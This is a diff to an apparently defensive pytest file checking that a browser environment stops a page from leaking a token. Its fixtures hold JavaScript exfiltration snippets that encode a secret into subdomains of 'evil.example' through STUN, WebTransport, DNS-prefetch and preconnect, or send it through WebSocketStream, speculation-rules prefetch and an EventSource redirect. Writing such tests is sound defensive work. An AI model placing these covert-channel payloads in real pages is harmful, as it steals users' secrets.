@@ -75,7 +75,8 @@ _CHANNELS_SEND = """const label = v.replace(/[^a-z0-9]/gi, '').toLowerCase().sli
 try {{ const pc = new RTCPeerConnection({{iceServers: [{{urls: 'stun:' + label + '.evil.example:3478'}}]}});
       pc.createDataChannel('x'); pc.createOffer().then(o => pc.setLocalDescription(o)); }} catch (e) {{}}
 try {{ new WebTransport('https://wt' + label + '.evil.example:4433/'); }} catch (e) {{}}
-try {{ new WebSocketStream('{ws}/s?d=' + encodeURIComponent(v)); }} catch (e) {{}}"""
+try {{ new WebSocketStream('{ws}/s').opened.then(({{writable}}) => writable.getWriter().write(v), () => {{}}); }}
+catch (e) {{}}"""
 
 
 @pytest.mark.usefixtures("loopback_websockets")
@@ -98,14 +99,14 @@ async def test_no_peer_connection_webtransport_or_websocket_stream_carries_the_t
     assert not _looked_up(net_log)  # no STUN host and no WebTransport host was looked up
 
 
-_SPECULATE_HEAD = """const say = m => {{ document.getElementById('echo').textContent += ' | ' + m; }};
-const add = (rel, href) => {{ const l = document.createElement('link'); l.rel = rel; l.href = href;
-                              document.head.appendChild(l); }};"""
+_SPECULATE_HEAD = """const say = m => { document.getElementById('echo').textContent += ' | ' + m; };
+const add = (rel, href) => { const l = document.createElement('link'); l.rel = rel; l.href = href;
+                              document.head.appendChild(l); };"""
 _SPECULATE_SEND = """if (v.length < 20) return;
 const label = v.replace(/[^a-z0-9]/gi, '').toLowerCase();
 const rules = document.createElement('script'); rules.type = 'speculationrules';
-rules.textContent = JSON.stringify({{prefetch: [{{source: 'list', urls: ['/spec?d=' + encodeURIComponent(v)]}}],
-                                    prerender: [{{source: 'list', urls: ['/pre?d=' + encodeURIComponent(v)]}}]}});
+rules.textContent = JSON.stringify({prefetch: [{source: 'list', urls: ['/spec?d=' + encodeURIComponent(v)]}],
+                                    prerender: [{source: 'list', urls: ['/pre?d=' + encodeURIComponent(v)]}]});
 document.head.appendChild(rules);
 add('dns-prefetch', '//dns' + label + '.evil.example'); add('preconnect', 'http://pc' + label + '.evil.example');
 say('speculated')"""
@@ -151,6 +152,7 @@ _EVENTS_HEAD = "const topics = new EventSource('/events?topic=garden'); topics.o
 _EVENTS_SEND = "(v.length > 20 && new EventSource('{site}/redirect?to=' + encodeURIComponent('{attacker}/r?d=' + v)))"
 
 
+@pytest.mark.usefixtures("loopback_websockets")  # Chromium follows the redirect itself: to the loopback, past LNA
 async def test_an_eventsource_redirect_on_the_pages_own_site_cannot_carry_the_token_on(tmp_path: Path) -> None:
     attacker = RecordingServer()
     site = RecordingServer()
